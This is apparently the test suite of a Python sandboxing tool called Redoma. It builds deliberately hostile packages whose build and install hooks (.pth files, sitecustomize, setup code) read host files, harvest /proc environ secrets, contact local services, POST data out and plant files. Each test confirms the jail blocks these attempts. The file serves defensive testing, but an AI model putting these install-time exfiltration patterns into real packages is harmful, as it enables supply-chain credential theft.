"""Packages that attack: when they are built and installed, and when they are there.

Each attack is also made without the protection, as `pip install` on the host would, and must succeed there.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from package_index import GIVE_THE_WHEEL, PackageIndex, source, wheel

from redoma import EnvironmentProblem, Executor
from redoma.environments import Store
from redoma.network.authority import Authority


class Listener:
    """A service of this machine that no package has any business with."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port, self.heard = self._socket.getsockname()[1], 0
        self._thread = threading.Thread(target=self._listen)
        self._thread.start()

    def _listen(self) -> None:
        while True:
            connection, _ = self._socket.accept()
            with connection:
                if connection.recv(100) == b"end":
                    return
                self.heard += 1

    def has_heard(self) -> int:
        """How often it was called, after a while in which it is."""
        deadline = time.monotonic() + 30
        while not self.heard and time.monotonic() < deadline:
            time.sleep(0.01)
        return self.heard

    def close(self) -> None:
        with socket.create_connection(("127.0.0.1", self.port)) as last:
            last.sendall(b"end")
        self._thread.join()
        self._socket.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    found = Listener()
    yield found
    found.close()


def content(executor: Executor, name: str) -> Path:
    assert executor.core.config.state is not None
    store = Store(executor.core.config.state / "environments")
    return store.path(store.find(name).digest)


def on_the_host(code: str, **env: str) -> str:
    """The control: the same code, in an ordinary process."""
    done = subprocess.run(
        [sys.executable, "-c", code], env={**os.environ, **env}, capture_output=True, text=True, timeout=60, check=False
    )
    return done.stdout + done.stderr


LOOT = """
import json, os, socket, urllib.request

def loot():
    def send(data):
        with socket.create_connection(("127.0.0.1", {port}), 30) as there:
            there.sendall(data)
    def ask(url, data=None):
        return urllib.request.urlopen(url, data, timeout=30).read(100).decode()
    def everybody():
        found = b""
        for name in os.listdir("/proc"):
            if name.isdigit():
                try:
                    found += open("/proc/" + name + "/environ", "rb").read()
                except OSError:
                    pass
        assert b"of-redoma-alone" in found
    attempts = {{
        "read a file of the host": lambda: open({secret!r}).read(),
        "write a file of the host": lambda: open({victim!r}, "w").write("taken"),
        "reach a service of the host": lambda: send(b"x"),
        "reach it by the proxy": lambda: ask("http://127.0.0.1:{port}/"),
        "send something to the index": lambda: ask("{index}", b"loot"),
        "read variables of Redoma": everybody,
        "put a package into the store": lambda: open({store!r} + "/planted.json", "w").write("x"),
    }}
    found = {{}}
    for name, attempt in attempts.items():
        try:
            attempt()
            found[name] = "succeeded"
        except Exception as error:
            found[name] = type(error).__name__
    return found
"""

TAKE = """
import zipfile
def attack():
    with zipfile.ZipFile("made.whl", "a") as made:
        made.writestr("loot.json", json.dumps(loot()))
"""


def test_a_hostile_build_gains_nothing(
    jail: Executor, index: PackageIndex, listener: Listener, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SECRET_OF_THE_HOST", "of-redoma-alone")
    (tmp_path / "secret").write_text("of the host")
    state = jail.core.config.state
    assert state is not None
    names = state / "environments" / "names"
    names.mkdir(0o700, parents=True, exist_ok=True)
    os.chmod(names.parent, 0o700)
    code = LOOT.format(
        port=listener.port, secret=str(tmp_path / "secret"), victim=str(tmp_path / "victim"), store=str(names),
        index=f"{index.url}greeting/",
    )  # fmt: skip
    taken = json.loads(on_the_host(f"{code}\nprint(json.dumps(loot()))"))
    assert taken.pop("reach it by the proxy") != "PermissionError"
    assert set(taken.values()) == {"succeeded"}, taken
    (names / "planted.json").unlink()
    (tmp_path / "victim").unlink()
    heard, posts = listener.heard, [method for method, _ in index.seen].count("POST")
    assert heard >= 1
    assert posts == 1

    index.add(source("hostile", "1.0", code + TAKE + GIVE_THE_WHEEL.format(name="hostile", version="1.0")))
    jail.create_environment("hostile", ["hostile"])
    (found,) = content(jail, "hostile").rglob("loot.json")
    gained = {name for name, what in json.loads(found.read_text()).items() if what == "succeeded"}
    assert gained == set()
    assert not (tmp_path / "victim").exists()
    assert listener.heard == heard
    assert [method for method, _ in index.seen].count("POST") == posts


ODD = """
import os
def attack():
    top = os.path.join(os.environ["TMPDIR"], "..", "env", "lib")
    os.makedirs(top, exist_ok=True)
    {what}
"""


@pytest.mark.parametrize(
    ("what", "told"),
    [
        ("os.symlink('/etc/passwd', top + '/odd.py')", "link"),
        ("os.mkfifo(top + '/odd')", "pipe"),
        ("open(top + '/one', 'w').close(); os.link(top + '/one', top + '/two')", "link"),
    ],
)
def test_what_is_no_plain_file_refuses_the_whole(jail: Executor, index: PackageIndex, what: str, told: str) -> None:
    end = GIVE_THE_WHEEL.format(name="odd", version="1.0")
    index.add(source("odd", "1.0", ODD.format(what=what) + end))
    with pytest.raises(EnvironmentProblem, match=told):
        jail.create_environment("odd", ["odd"])
    assert jail.core.config.state is not None
    assert Store(jail.core.config.state / "environments").get("odd") is None


def test_a_build_that_leaves_plain_files_is_no_odd_one(jail: Executor, index: PackageIndex) -> None:
    """The control of the test before this."""
    end = GIVE_THE_WHEEL.format(name="even", version="1.0")
    index.add(source("even", "1.0", ODD.format(what="open(top + '/even', 'w').close()") + end))
    assert jail.create_environment("even", ["even"]).packages[0].name == "even"


CALLS = (
    "import socket, sys; sys.started = True\n"
    "try:\n    with socket.create_connection(('127.0.0.1', {port}), 20) as s: s.sendall(b'x')\n"
    "except OSError: sys.refused = True\n"
)


def calling(name: str, port: int) -> tuple[str, bytes]:
    """A package that calls a service of the host: from a `.pth` file, from `sitecustomize`, and when it is imported."""
    code = CALLS.format(port=port)
    return wheel(
        name, "1.0", {f"{name}.py": code, f"{name}.pth": f"import {name}\n", "sitecustomize.py": f"import {name}\n"}
    )


def test_code_of_a_package_runs_in_cells_alone(
    jail: Executor, index: PackageIndex, listener: Listener, tmp_path: Path
) -> None:
    """The zygote is no cell: it has the network, and makes the cells. No `.pth` file may run there."""
    index.add(calling("caller", listener.port))
    jail.create_environment("caller", ["caller"])
    result = jail.run("import sys; (sys.started, sys.refused)", environment="caller")
    assert result.value in ([True, True], (True, True)), result.stderr
    assert jail.command(["python", "-c", "import sys; print(sys.started)"], environment="caller").stdout == "True\n"
    assert listener.heard == 0
    (site,) = content(jail, "caller").rglob("site-packages")
    on_the_host(f"import site; site.addsitedir({str(site)!r})")
    assert listener.has_heard() == 1, "the control: an interpreter of the host that has these packages"


def test_modules_that_are_preloaded_outside_of_cells_have_no_network_there(
    jail: Executor, index: PackageIndex, listener: Listener
) -> None:
    index.add(calling("eager", listener.port))
    jail.create_environment("eager", ["eager"], preload=["eager"])
    result = jail.run("import sys; [sys.started, sys.refused]", environment="eager")
    assert result.value == [True, True], result.stderr
    assert listener.heard == 0
    (site,) = content(jail, "eager").rglob("site-packages")
    on_the_host("import eager", PYTHONPATH=str(site))
    assert listener.has_heard() >= 1, "the control"


def test_the_password_of_the_index_never_enters_the_cell(
    jail: Executor, index: PackageIndex, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    code = LOOT.partition("def loot")[0] + (
        "def loot():\n    import subprocess\n"
        "    return {'env': dict(os.environ), 'line': open('/proc/%d/environ' % os.getppid(), 'rb').read().decode()}\n"
    )
    authority = Authority()
    (tmp_path / "authorities.pem").write_bytes(authority.certificate)
    monkeypatch.setenv("SSL_CERT_FILE", str(tmp_path / "authorities.pem"))
    with_tls = PackageIndex(authority.context("localhost"))
    try:
        end = GIVE_THE_WHEEL.format(name="curious", version="1.0")
        with_tls.add(source("curious", "1.0", code + TAKE + end))
        monkeypatch.setenv("PIP_INDEX_URL", f"https://me:the-real-one@localhost:{with_tls.port}/simple/")
        jail.create_environment("curious", ["curious"])
    finally:
        with_tls.close()
    import base64

    sent = {base64.b64decode(one.removeprefix("Basic ")).decode() for one in with_tls.authorization if one}
    assert sent == {"me:the-real-one"}, "the index got it"
    (found,) = content(jail, "curious").rglob("loot.json")
    assert "redoma_placeholder" in found.read_text(), "the control: the build could look where it would have been"
    assert "the-real-one" not in found.read_text()
